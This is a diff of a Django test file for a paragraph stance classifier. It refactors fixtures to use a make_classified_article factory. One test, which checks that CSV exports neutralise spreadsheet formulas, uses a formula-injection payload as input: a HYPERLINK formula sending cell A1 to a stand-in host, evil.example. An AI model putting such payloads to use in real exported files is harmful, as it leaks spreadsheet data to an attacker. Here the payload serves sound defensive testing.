@@ -9,7 +9,7 @@ from django.urls import reverse
 
 from stance import jobs, selectors, services
 from stance.models import Job, Label, ModelVersion, Prediction, TrainingSet
-from tests.factories import NEWS, OPINION, make_article
+from tests.factories import NEWS, OPINION, make_classified_article
 
 pytestmark = pytest.mark.django_db
 
@@ -18,8 +18,7 @@ pytestmark = pytest.mark.django_db
 def labelled(active_classifier, editor):
     """An article whose paragraphs an editor has labelled (enough to cross-validate)."""
     texts = NEWS[:8] + OPINION[:8]
-    article = make_article("\n\n".join(texts))
-    services.articles_classify(articles=[article])
+    article = make_classified_article("\n\n".join(texts))
     for paragraph, value in zip(
         article.paragraphs.order_by("position"), ["news"] * 8 + ["opinion"] * 8, strict=True
     ):
@@ -150,8 +149,7 @@ def test_labels_export_as_csv_and_json_lines(labelled, editor_client):
 
 
 def test_the_csv_export_never_hands_a_spreadsheet_a_formula(active_classifier, editor_client):
-    article = make_article("-1+1 is how the column began.\n\nA second paragraph.")
-    services.articles_classify(articles=[article])
+    article = make_classified_article("-1+1 is how the column began.\n\nA second paragraph.")
     paragraph = article.paragraphs.get(position=1)
     note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     editor_client.post(
